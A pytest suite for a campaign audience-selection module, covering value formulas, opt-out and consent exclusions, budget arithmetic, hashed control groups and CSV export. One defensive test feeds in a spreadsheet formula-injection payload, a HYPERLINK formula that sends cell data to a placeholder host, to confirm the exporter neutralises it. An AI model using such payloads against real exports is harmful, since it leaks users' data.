"""Budgeted campaign targeting: formulas, exclusions and the budget / control-group properties."""

from __future__ import annotations

import hashlib
import io
from decimal import Decimal

import numpy as np
import pandas as pd
import pytest
from pydantic import ValidationError
from scores_data import SEGMENTS, STAGES, make_scores

from training.decisions.targeting import (
    AUDIENCE_COLUMNS,
    DUCKDB_HASH_MIN,
    EXCLUSION_REASONS,
    CampaignSpec,
    ValueAssumptions,
    _uniform_duckdb,
    _uniform_hashlib,
    control_uniform,
    select_audience,
    to_csv,
)
from training.decisions.tiers import assign_tiers

SCORES_SEED = 11  # the `scores` fixture's (conftest.py)


def random_spec(rng: np.random.Generator, k: int) -> dict:
    objective = ["retain", "winback", "upsell", "lookalike"][k % 4]
    filters: dict = {}
    if rng.uniform() < 0.3:
        filters["tiers"] = list(rng.choice(["regular", "silver", "金卡", "platinum", "钻石"], size=2, replace=False))
    if rng.uniform() < 0.3:
        filters["segments"] = [SEGMENTS[rng.integers(0, 8)][0], SEGMENTS[rng.integers(0, 8)][1], "retain"]
    if rng.uniform() < 0.3:
        filters["lifecycle_stages"] = list(rng.choice(STAGES, size=3, replace=False))
    if rng.uniform() < 0.3:
        filters["min_clv"] = float(rng.uniform(0, 800))
    if rng.uniform() < 0.3:
        lo = float(rng.uniform(0, 0.6))
        filters["churn_range"] = [lo, float(lo + rng.uniform(0, 0.4))]
    return {
        "campaign_id": f"cmp-{k}",
        "objective": objective,
        "budget": float(rng.choice([0.0, rng.uniform(0, 50), rng.uniform(0, 2000), 1e6])),
        "cost_per_contact": float(rng.choice([0.05, 0.1, 0.3, 1.7, 5.0])),
        "offer_cost": float(rng.choice([0.0, 0.0, 2.0, 10.0])),
        "max_contacts": None if rng.uniform() < 0.6 else int(rng.integers(0, 400)),
        "control_fraction": float(rng.choice([0.0, 0.1, 0.1, 0.2, 0.5, rng.uniform(0, 0.5)])),
        "filters": filters,
    }


def lookalike_for(scores: pd.DataFrame, seed: int) -> pd.Series:
    """Random lookalike scores for ~80% of people (the rest have none); independent of row order."""
    rng = np.random.default_rng(seed)
    ids = np.sort(scores["person_id"].to_numpy().astype(str))
    keep = rng.uniform(size=len(ids)) < 0.8
    return pd.Series(rng.uniform(size=int(keep.sum())), index=ids[keep])


def run(scores, spec, *, lookalike_seed=0, tiers=None, consent="opt_out"):
    spec = CampaignSpec.model_validate(spec)
    look = lookalike_for(scores, lookalike_seed) if spec.objective == "lookalike" else None
    return select_audience(scores, tiers, spec, lookalike_scores=look, consent=consent)


def test_retain_value_formula_and_ranking(scores, tiers):
    spec = {"campaign_id": "r1", "objective": "retain", "budget": 1e9, "cost_per_contact": 1.0, "offer_cost": 4.0}
    result = select_audience(scores, tiers, spec)
    aud = result.audience
    assert list(aud.columns) == list(AUDIENCE_COLUMNS)
    row = scores.set_index("person_id").loc[aud["person_id"]]
    expected = row["churn_probability"].to_numpy() * row["clv_mean"].to_numpy() * 0.15
    np.testing.assert_allclose(aud["expected_value"], expected)
    np.testing.assert_allclose(aud["expected_net_value"], expected - 5.0)
    assert (aud["expected_net_value"] > 0).all()
    assert aud["expected_net_value"].is_monotonic_decreasing
    assert aud["rank"].tolist() == list(range(1, len(aud) + 1))
    # every eligible, not opted-out person with positive net value is in the audience when money is no object
    # (the default consent policy opt_out: unknown consent means allowed)
    s = scores
    opted_in = s["marketing_opt_out"].astype(object).ne(True)
    positive = s["churn_probability"] * s["clv_mean"] * 0.15 - 5.0 > 0
    assert set(aud["person_id"]) == set(s.loc[s["eligible"] & opted_in & positive, "person_id"])


def test_objective_formulas(scores, tiers):
    a = ValueAssumptions(save_rate=0.2, winback_rate=0.3, uplift_rate=0.1, conversion_rate=0.05)
    s = scores.set_index("person_id")
    base = {"budget": 1e9, "cost_per_contact": 0.01}

    up = select_audience(scores, tiers, {**base, "campaign_id": "u", "objective": "upsell"}, assumptions=a)
    row = s.loc[up.audience["person_id"]]
    np.testing.assert_allclose(up.audience["expected_value"], row["clv_mean"] * 0.1 * (1 - row["churn_probability"]))

    wb = select_audience(scores, tiers, {**base, "campaign_id": "w", "objective": "winback"}, assumptions=a)
    row = s.loc[wb.audience["person_id"]]
    assert set(row["lifecycle_stage"]) <= {"lapsed", "at_risk"}
    p_react = row["p_alive"].fillna(1 - row["churn_probability"])
    np.testing.assert_allclose(wb.audience["expected_value"], p_react * row["clv_mean"] * 0.3)
    assert row["p_alive"].isna().any()  # the fallback was exercised

    look = lookalike_for(scores, 5)
    lk = select_audience(
        scores, tiers, {**base, "campaign_id": "l", "objective": "lookalike"}, lookalike_scores=look, assumptions=a
    )
    mean_clv = scores.loc[scores["eligible"], "clv_mean"].mean()
    np.testing.assert_allclose(
        lk.audience["expected_value"], look.loc[lk.audience["person_id"]].to_numpy() * mean_clv * 0.05
    )
    assert set(lk.audience["person_id"]) <= set(look.index)


@pytest.mark.parametrize("consent", ["opt_out", "opt_in"])
def test_opt_outs_and_ineligible_never_selected_even_when_most_valuable(tiers, consent):
    s = make_scores(300, seed=3)
    s.loc[:9, "marketing_opt_out"] = True
    s.loc[10:14, "marketing_opt_out"] = None  # unknown consent: allowed under opt_out, excluded under opt_in
    s.loc[15:19, "eligible"] = False
    s.loc[:19, ["churn_probability", "clv_mean"]] = [0.99, 1e6]
    spec = {"campaign_id": "c", "objective": "retain", "budget": 1e6, "cost_per_contact": 1}
    result = select_audience(s, None, spec, consent=consent)
    chosen = set(result.audience["person_id"])
    assert not set(s.loc[:9, "person_id"]) & chosen and not set(s.loc[15:19, "person_id"]) & chosen
    unknown = set(s.loc[10:14, "person_id"])
    assert (unknown <= chosen) if consent == "opt_out" else not (unknown & chosen)
    flag = s["marketing_opt_out"].astype(object)
    excluded = result.summary["excluded"]
    assert result.summary["consent"] == consent
    assert excluded["opt_out"] == int(flag.eq(True).sum())
    assert excluded["consent_unknown"] == (int(flag.isna().sum()) if consent == "opt_in" else 0)
    allowed = flag.eq(False) | (flag.isna() if consent == "opt_out" else False)
    assert excluded["ineligible"] == int((~s["eligible"] & allowed).sum())


def test_unknown_consent_everywhere_selects_nobody_under_opt_in_and_says_why(tiers):
    from training.decisions.targeting import explain_summary

    s = make_scores(200, seed=4)
    s["marketing_opt_out"] = pd.array([pd.NA] * len(s), dtype="boolean")  # orders-only data: nothing recorded
    spec = {"campaign_id": "u", "objective": "retain", "budget": 1e9, "cost_per_contact": 0.01,
            "control_fraction": 0.0}
    closed = select_audience(s, None, spec, consent="opt_in")
    assert closed.summary["audience"] == 0
    assert closed.summary["excluded"]["consent_unknown"] == len(s)
    lines = explain_summary(closed.summary)
    assert lines[0].startswith("nobody selected: 200 of 200 people consent unknown") and "brand.yaml" in lines[0]
    opened = select_audience(s, None, spec, consent="opt_out")
    positive = s["eligible"] & (s["churn_probability"] * s["clv_mean"] * 0.15 > 0.01)
    assert opened.summary["audience"] == int(positive.sum()) == int(s["eligible"].sum())  # everyone eligible
    with pytest.raises(ValueError, match="consent must be one of"):
        select_audience(s, None, spec, consent="maybe")


def test_budget_is_binding_and_maximal(scores, tiers):
    spec = CampaignSpec(
        campaign_id="b", objective="retain", budget=100.0, cost_per_contact=0.1, control_fraction=0.0
    )
    result = select_audience(scores, tiers, spec)
    # exact money arithmetic: 100 / 0.1 is 1000 contacts (floats would say 999.999…)
    assert result.summary["treatment"] == 1000
    assert result.summary["spend"] == 100.0
    assert result.summary["excluded"]["budget"] > 0


def test_max_contacts_caps_treated_people(scores, tiers):
    spec = {"campaign_id": "m", "objective": "retain", "budget": 1e9, "cost_per_contact": 1, "max_contacts": 50}
    result = select_audience(scores, tiers, spec)
    assert result.summary["treatment"] == 50
    assert result.summary["control"] == round(0.1 * result.summary["audience"])
    assert result.summary["excluded"]["max_contacts"] > 0 and result.summary["excluded"]["budget"] == 0


def test_zero_budget_selects_nobody(scores, tiers):
    result = select_audience(
        scores, tiers, {"campaign_id": "z", "objective": "retain", "budget": 0, "cost_per_contact": 1,
                        "control_fraction": 0.5}
    )
    assert result.audience.empty
    assert result.summary["spend"] == 0 and result.summary["expected_roi"] is None


TINY = 5e-324  # the smallest positive float
HUGE = 1.7976931348623157e308  # the largest


@pytest.mark.parametrize("budget", [0.0, TINY, 1e-10, 2.5, 1e28, 1e29, 1e300, HUGE])
@pytest.mark.parametrize("cost", [TINY, 1e-300, 0.1, 1e15, HUGE])
@pytest.mark.parametrize("control_fraction", [0.0, TINY, 0.1, 0.5])
def test_any_finite_money_gives_an_answer_capped_to_the_population(scores, tiers, budget, cost, control_fraction):
    """Huge budgets and tiny costs used to raise decimal.DivisionImpossible (a 500 in the service)."""
    spec = {"campaign_id": "edge", "objective": "retain", "budget": budget, "cost_per_contact": cost,
            "control_fraction": control_fraction}
    result = select_audience(scores, tiers, spec)
    s = result.summary
    candidates = s["population"] - sum(v for k, v in s["excluded"].items() if k not in ("budget", "max_contacts"))
    assert 0 <= s["audience"] <= candidates
    assert Decimal(repr(s["spend"])) <= Decimal(repr(budget))
    assert s["treatment"] == (result.audience["group"] == "treatment").sum()
    for key in ("spend", "unit_cost", "expected_incremental_value", "expected_net_value", "budget"):
        assert np.isfinite(s[key]), key
    assert s["expected_roi"] is None or np.isfinite(s["expected_roi"])
    if Decimal(repr(budget)) >= Decimal(repr(cost)) * candidates:  # pays for everyone: capped to the candidates
        assert s["audience"] == candidates and s["excluded"]["budget"] == 0


def test_roi_beyond_float_range_is_null_not_infinite(scores, tiers):
    spec = {"campaign_id": "roi", "objective": "retain", "budget": TINY, "cost_per_contact": TINY,
            "control_fraction": 0.0}
    s = select_audience(scores, tiers, spec).summary
    assert s["treatment"] == 1 and s["spend"] == TINY and s["expected_net_value"] > 0
    assert s["expected_roi"] is None


def test_properties_over_random_campaigns():
    """Never over budget, control size exact, stable split, no opt-outs, filters respected, closed accounting."""
    rng = np.random.default_rng(2024)
    for k in range(40):
        scores = make_scores(int(rng.integers(0, 400)), seed=k)
        tiers = assign_tiers(scores)
        spec = random_spec(rng, k)
        consent = ("opt_out", "opt_in")[k % 2]
        result = run(scores, spec, lookalike_seed=k, tiers=tiers, consent=consent)
        aud, summ = result.audience, result.summary
        msg = f"campaign {k}: {spec}"
        treated = aud["group"] == "treatment"
        assert summ["spend"] <= spec["budget"], msg
        assert aud.loc[treated, "cost"].sum() <= spec["budget"] + 1e-9, msg
        assert (aud.loc[~treated, "cost"] == 0).all(), msg
        if spec["max_contacts"] is not None:
            assert treated.sum() <= spec["max_contacts"], msg
        n = len(aud)
        assert abs(summ["control"] - round(spec["control_fraction"] * n)) <= 1, msg
        assert summ["control"] == (~treated).sum() and summ["treatment"] == treated.sum(), msg
        assert summ["audience"] + sum(summ["excluded"].values()) == len(scores), msg
        if summ["excluded"]["budget"]:
            # maximal: one more person in the audience would push the treated spend over budget
            unit = Decimal(repr(spec["cost_per_contact"])) + Decimal(repr(spec["offer_cost"]))
            bigger = n + 1 - int(np.floor(spec["control_fraction"] * (n + 1) + 0.5))
            assert bigger * unit > Decimal(repr(spec["budget"])), msg

        row = scores.set_index("person_id").loc[aud["person_id"]]
        flag = row["marketing_opt_out"].astype(object)
        assert (flag.eq(False) if consent == "opt_in" else flag.ne(True)).all(), msg
        assert row["eligible"].all(), msg
        assert (aud["expected_net_value"] > 0).all(), msg
        f = spec["filters"]
        t = tiers.set_index("person_id").loc[aud["person_id"]]
        if "tiers" in f:
            assert (t["tier"].isin(f["tiers"]) | t["tier_en"].isin(f["tiers"])).all(), msg
        if "segments" in f:
            seg = f["segments"]
            assert (row["rfm_segment"].isin(seg) | row["rfm_segment_en"].isin(seg)
                    | t["action_segment"].isin(seg)).all(), msg
        if "lifecycle_stages" in f:
            assert row["lifecycle_stage"].isin(f["lifecycle_stages"]).all(), msg
        if "min_clv" in f:
            assert (row["clv_mean"] >= f["min_clv"]).all(), msg
        if "churn_range" in f:
            lo, hi = f["churn_range"]
            assert row["churn_probability"].between(lo, hi).all(), msg

        # same audience and split on every call and whatever the row order
        again = run(scores, spec, lookalike_seed=k, tiers=tiers, consent=consent)
        pd.testing.assert_frame_equal(again.audience, aud)
        shuffled = scores.sample(frac=1.0, random_state=k)
        moved = run(shuffled, spec, lookalike_seed=k, tiers=tiers.sample(frac=1.0, random_state=k + 1),
                    consent=consent)
        pd.testing.assert_frame_equal(moved.audience, aud)
        assert moved.summary == summ, msg


def test_control_is_the_lowest_hash_share_and_depends_on_campaign(scores, tiers):
    base = {"objective": "retain", "budget": 1e9, "cost_per_contact": 1.0, "control_fraction": 0.2}
    a = select_audience(scores, tiers, {**base, "campaign_id": "spring"}).audience
    b = select_audience(scores, tiers, {**base, "campaign_id": "autumn"}).audience
    assert a["person_id"].tolist() == b["person_id"].tolist()
    u = control_uniform("spring", a["person_id"])
    control = a["group"] == "control"
    assert u[control.to_numpy()].max() < u[~control.to_numpy()].min()
    overlap = len(set(a.loc[control, "person_id"]) & set(b.loc[b["group"] == "control", "person_id"]))
    assert overlap < 0.5 * control.sum()  # independent draws would overlap ~20%


def test_control_uniform_is_plain_sha256():
    digest = hashlib.sha256(b"cmp-1\x1fp_abc").digest()
    expected = int.from_bytes(digest[:8], "big") / 2**64
    assert control_uniform("cmp-1", ["p_abc"])[0] == expected
    draws = control_uniform("cmp-1", [f"p_{i}" for i in range(20000)])
    assert 0 <= draws.min() and draws.max() < 1
    assert abs(draws.mean() - 0.5) < 0.01


def test_large_audiences_hash_identically_in_duckdb():
    ids = [f"p_{i:05d}" for i in range(300)] + ["会员_钻石_001", "p_ü", ""]
    for campaign in ("cmp-1", "双11-大促"):
        np.testing.assert_array_equal(_uniform_duckdb(campaign, ids), _uniform_hashlib(campaign, ids))
        np.testing.assert_array_equal(
            _uniform_duckdb(campaign, pd.Series(ids, index=np.arange(len(ids))[::-1])),
            _uniform_hashlib(campaign, ids),
        )
    big = [f"p_{i}" for i in range(DUCKDB_HASH_MIN)]
    np.testing.assert_array_equal(control_uniform("cmp-9", big), _uniform_hashlib("cmp-9", big))


def test_csv_export_round_trips(scores, tiers):
    result = select_audience(
        scores, tiers, {"campaign_id": "csv", "objective": "upsell", "budget": 200, "cost_per_contact": 0.5}
    )
    text = to_csv(result)
    back = pd.read_csv(io.StringIO(text))
    assert list(back.columns) == list(AUDIENCE_COLUMNS)
    assert back["person_id"].tolist() == result.audience["person_id"].tolist()
    assert back["group"].tolist() == result.audience["group"].tolist()
    assert "重要" in text or "一般" in text  # Chinese names survive as UTF-8


def test_csv_cells_cannot_run_as_spreadsheet_formulas(scores, tiers):
    """A campaign_id (given by the caller) or a segment name starting with = + - @ tab CR is neutralised."""
    attack = '=HYPERLINK("http://x.test/?"&A1,"open")'
    renamed = scores.assign(rfm_segment_en=np.where(np.arange(len(scores)) % 2 == 0, "@SUM(1+1)", "-2+3"))
    result = select_audience(renamed, tiers, {"campaign_id": attack, "objective": "retain", "budget": 50,
                                              "cost_per_contact": 1})
    back = pd.read_csv(io.StringIO(to_csv(result)), keep_default_na=False)
    assert (back["campaign_id"] == "'" + attack).all()
    assert set(back["rfm_segment_en"]) == {"'@SUM(1+1)", "'-2+3"}
    assert (result.audience["campaign_id"] == attack).all()  # the JSON answer keeps the value as given
    assert back["expected_net_value"].dtype == float  # numbers stay numbers


def test_to_csv_writes_file(scores, tiers, tmp_path):
    result = select_audience(
        scores, tiers, {"campaign_id": "f", "objective": "retain", "budget": 50, "cost_per_contact": 1}
    )
    path = tmp_path / "audience.csv"
    assert to_csv(result, path) == path.read_text(encoding="utf-8")


@pytest.mark.parametrize(
    ("change", "field"),
    [
        ({"budget": -1}, "budget"),
        ({"budget": float("inf")}, "budget"),
        ({"objective": "spam"}, "objective"),
        ({"cost_per_contact": 0}, "cost_per_contact"),
        ({"cost_per_contact": 1.7e308, "offer_cost": 1e308}, "offer_cost"),  # unit cost beyond float range
        ({"control_fraction": 0.6}, "control_fraction"),
        ({"max_contacts": -3}, "max_contacts"),
        ({"campaign_id": "  "}, "campaign_id"),
        ({"colour": "red"}, "colour"),
        ({"filters": {"churn_range": [0.8, 0.2]}}, "filters.churn_range"),
        ({"filters": {"lifecycle_stages": ["sleeping"]}}, "filters.lifecycle_stages"),
        ({"filters": {"tier": ["gold"]}}, "filters.tier"),
    ],
)
def test_spec_validation_names_the_field(change, field):
    spec = {"campaign_id": "x", "objective": "retain", "budget": 10, "cost_per_contact": 1, **change}
    with pytest.raises(ValidationError) as info:
        CampaignSpec.model_validate(spec)
    locs = {".".join(str(p) for p in err["loc"]) for err in info.value.errors()}
    assert any(loc.startswith(field) for loc in locs), locs


def test_bad_inputs_raise_naming_the_field(scores, tiers):
    spec = {"campaign_id": "x", "objective": "retain", "budget": 10, "cost_per_contact": 1}
    with pytest.raises(ValueError, match=r"filters\.tiers: unknown tier\(s\) \['golden'\]"):
        select_audience(scores, tiers, {**spec, "filters": {"tiers": ["golden"]}})
    with pytest.raises(ValueError, match=r"filters\.segments: unknown segment\(s\) \['VIP'\]"):
        select_audience(scores, tiers, {**spec, "filters": {"segments": ["重要价值客户", "VIP"]}})
    custom = scores.assign(rfm_segment_en=scores["rfm_segment_en"].replace({"high value": "VIP"}))
    assert len(select_audience(custom, tiers, {**spec, "filters": {"segments": ["VIP"]}}).audience) > 0
    with pytest.raises(ValueError, match="lookalike_scores: required"):
        select_audience(scores, tiers, {**spec, "objective": "lookalike"})
    with pytest.raises(ValueError, match="lookalike_scores: only used"):
        select_audience(scores, tiers, spec, lookalike_scores=pd.Series([0.5], index=["p_x"]))
    with pytest.raises(ValueError, match=r"lookalike_scores: scores must be in \[0, 1\]"):
        select_audience(
            scores, tiers, {**spec, "objective": "lookalike"}, lookalike_scores=pd.Series([2.0], index=["p_x"])
        )
    with pytest.raises(ValueError, match="marketing_opt_out"):
        select_audience(scores.drop(columns="marketing_opt_out"), tiers, spec)
    with pytest.raises(ValueError, match="tiers: no tier for 1 person"):
        select_audience(scores, tiers.iloc[1:], spec)


def test_summary_figures_add_up(scores, tiers):
    result = select_audience(
        scores, tiers, {"campaign_id": "s", "objective": "retain", "budget": 300, "cost_per_contact": 0.7,
                        "offer_cost": 1.3}
    )
    summ, aud = result.summary, result.audience
    treated = aud["group"] == "treatment"
    assert summ["contacts"] == summ["treatment"] == treated.sum()
    assert summ["spend"] == pytest.approx(2.0 * treated.sum())
    assert summ["expected_incremental_value"] == pytest.approx(aud.loc[treated, "expected_value"].sum())
    assert summ["expected_roi"] == pytest.approx((summ["expected_incremental_value"] - summ["spend"]) / summ["spend"])
    assert set(summ["excluded"]) == set(EXCLUSION_REASONS)


def test_scores_carrying_tier_columns_need_no_separate_tiers(scores, tiers):
    spec = {"campaign_id": "t", "objective": "retain", "budget": 500, "cost_per_contact": 1,
            "filters": {"tiers": ["gold", "铂金"], "segments": ["retain", "nurture"]}}
    explicit = select_audience(scores, tiers, spec)
    merged = scores.merge(tiers, on="person_id")  # what training.scoring.score returns
    carried = select_audience(merged, None, spec)
    computed = select_audience(scores, None, spec)
    pd.testing.assert_frame_equal(carried.audience, explicit.audience)
    pd.testing.assert_frame_equal(computed.audience, explicit.audience)
    assert len(explicit.audience) > 0
    assert set(explicit.audience["tier_en"]) <= {"gold", "platinum"}
    assert set(explicit.audience["action_segment"]) <= {"retain", "nurture"}
